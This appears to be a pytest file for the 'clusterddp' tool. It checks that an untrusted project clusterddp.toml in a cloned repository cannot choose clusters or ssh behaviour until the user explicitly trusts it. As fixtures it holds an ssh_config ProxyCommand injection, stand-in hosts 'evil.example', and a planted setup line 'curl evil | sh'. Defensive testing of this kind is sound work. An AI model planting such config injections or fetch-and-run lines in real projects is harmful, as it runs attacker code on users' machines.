"""Issue 23, class 1: a cloned repository's clusterddp.toml is owned by you but written by someone else. What
decides where your code goes or what ssh runs here ([clusters.NAME], cluster =) comes from your own file, or from a
project file you trusted explicitly (clusterddp trust, CLUSTERDDP_TRUST); a project never replaces your cluster.
The real ssh client runs: a ProxyCommand in the project's ssh_config would leave a marker file."""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import ROOT


@pytest.fixture
def cloned(tmp_path):
    """A cloned repository whose clusterddp.toml defines hpc (an ssh_config whose ProxyCommand writes a marker),
    evil, and makes hpc the default; the user's own config defines hpc as a host that refuses connections."""
    marker = tmp_path / "PWNED"
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "train.py").write_text("print('hi')\n")
    (repo / "evil_ssh_config").write_text(f"Host *\n    ProxyCommand touch {marker}; exit 1\n")
    (repo / "clusterddp.toml").write_text(
        '[defaults]\ncluster = "evil"\n'
        '[clusters.hpc]\nhost = "login.evil.example"\nssh_config = "evil_ssh_config"\n'
        '[clusters.evil]\nhost = "evil.example"\nssh_config = "evil_ssh_config"\n')
    config = tmp_path / "xdg" / "clusterddp"
    config.mkdir(parents=True)
    (config / "config.toml").write_text('[clusters.hpc]\nhost = "127.0.0.1"\nport = 1\n')
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLURM_", "CLUSTERDDP_"))}
    env.update(XDG_CONFIG_HOME=str(tmp_path / "xdg"), XDG_STATE_HOME=str(tmp_path / "state"), PYTHONPATH=str(ROOT),
               SLURM_CONF=str(tmp_path / "none.conf"))
    env.pop("XDG_RUNTIME_DIR", None)
    return repo, env, marker


def cli(*args: str, cwd: Path, env: dict) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "clusterddp", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=60)


def test_an_untrusted_project_file_chooses_no_cluster(cloned):
    repo, env, marker = cloned
    toml = repo / "clusterddp.toml"
    r = cli("status", "1", "--cluster", "hpc", cwd=repo, env=env)  # your own hpc, not the project's
    assert r.returncode == 1 and "cannot log in to cluster 'hpc' (ssh 127.0.0.1)" in r.stderr, r.stderr
    assert not marker.exists()
    assert (f"clusterddp: warning: {toml}: [clusters.hpc], [clusters.evil] ignored: it is not trusted, and a project "
            "file decides where your code goes and what ssh runs only once you trust it (clusterddp trust "
            f"{toml})") in r.stderr.splitlines()
    r = cli("status", "1", "--cluster", "evil", cwd=repo, env=env)
    assert r.returncode == 2 and "unknown cluster 'evil'" in r.stderr and not marker.exists(), r.stderr
    show = cli("config", "show", cwd=repo, env=env)  # cluster = "evil" in its [defaults]: not taken
    assert "cluster         = 'here'" in show.stdout and "# cluster evil" not in show.stdout, show.stdout
    assert f"{toml}: cluster = 'evil' in [defaults] ignored: it is not trusted" in show.stderr
    dry = cli("submit", "--dry-run", "--gpus", "0", "train.py", cwd=repo, env=env)
    assert dry.returncode == 0 and "login.evil.example" not in dry.stdout + dry.stderr and not marker.exists()
    assert "Traceback" not in dry.stderr


def test_trusting_a_project_file_and_what_it_never_does(cloned):
    """After `clusterddp trust`, its clusters apply, except that your own hpc stays yours; a change to the file
    withdraws the trust; --revoke forgets it."""
    repo, env, marker = cloned
    toml = repo / "clusterddp.toml"
    toml.write_text(toml.read_text().replace('cluster = "evil"', 'cluster = "proj"').replace(
        "[clusters.evil]", "[clusters.proj]").replace('"evil.example"', '"127.0.0.1"\nport = 1'))
    trusted = cli("trust", cwd=repo, env=env)
    assert trusted.returncode == 0 and f"trusted {toml}" in trusted.stderr, trusted.stderr
    listing = Path(env["XDG_CONFIG_HOME"]) / "clusterddp" / "trusted"
    assert oct(listing.stat().st_mode & 0o777) == "0o600"
    show = cli("config", "show", cwd=repo, env=env)
    assert "cluster         = 'proj'" in show.stdout, show.stdout
    assert "# cluster proj: ssh 127.0.0.1, port 1," in show.stdout and f"# {toml}" in show.stdout
    assert "# cluster hpc: ssh 127.0.0.1, port 1;" in show.stdout  # yours, not login.evil.example
    assert "[clusters.hpc] ignored: your own" in show.stderr and "never replaces a cluster of yours" in show.stderr
    r = cli("status", "1", "--cluster", "hpc", cwd=repo, env=env)
    assert "(ssh 127.0.0.1)" in r.stderr and not marker.exists(), r.stderr
    toml.write_text(toml.read_text() + "\n")  # any change: trusted no longer
    show = cli("config", "show", cwd=repo, env=env)
    assert "cluster         = 'here'" in show.stdout and "it changed since you trusted it" in show.stderr
    cli("trust", cwd=repo, env=env)
    assert "cluster         = 'proj'" in cli("config", "show", cwd=repo, env=env).stdout
    revoked = cli("trust", "--revoke", str(toml), cwd=repo, env=env)
    assert revoked.returncode == 0 and "no longer trusted" in revoked.stderr
    assert "cluster         = 'here'" in cli("config", "show", cwd=repo, env=env).stdout


def test_a_trust_list_others_can_write_is_ignored(cloned):
    repo, env, _ = cloned
    assert cli("trust", cwd=repo, env=env).returncode == 0
    listing = Path(env["XDG_CONFIG_HOME"]) / "clusterddp" / "trusted"
    listing.chmod(0o666)
    show = cli("config", "show", cwd=repo, env=env)
    assert "cluster         = 'here'" in show.stdout and "it is not trusted" in show.stderr


def test_trust_without_a_project_file_says_what_to_give(tmp_path, cloned):
    _, env, _ = cloned
    (tmp_path / "empty" / ".git").mkdir(parents=True)
    r = cli("trust", cwd=tmp_path / "empty", env=env)
    assert r.returncode == 2 and "no project file here" in r.stderr and "Traceback" not in r.stderr


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="a second user's file needs root")
def test_trust_entries_are_absolute_paths(tmp_path, monkeypatch):
    """Issue 41: a relative CLUSTERDDP_TRUST entry trusted whatever clusterddp.toml the current directory held,
    another user's included (its setup lines went into your job). Only absolute entries count; naming a file by its
    absolute path is still the opt-in for someone else's file (test_security: a profile owned by another user)."""
    from clusterddp.job.trust import distrust, why_not_trusted

    shared = tmp_path / "shared"
    shared.mkdir()
    planted = shared / "clusterddp.toml"
    planted.write_text('[defaults]\nsetup = ["curl evil | sh"]\n')
    os.chown(planted, 65534, 65534)  # nobody's
    monkeypatch.chdir(shared)
    relative = {"CLUSTERDDP_TRUST": "clusterddp.toml"}
    assert why_not_trusted(planted, relative) == ("it is not trusted (CLUSTERDDP_TRUST takes absolute paths only: "
                                                  "'clusterddp.toml' ignored)")
    assert distrust(planted, relative) == "it is owned by nobody (uid 65534), not by you"
    absolute = {"CLUSTERDDP_TRUST": str(planted)}
    assert why_not_trusted(planted, absolute) == "" and distrust(planted, absolute) == ""
    assert why_not_trusted(planted, {"CLUSTERDDP_TRUST": f"./clusterddp.toml:{shared}/../shared/x"}) != ""
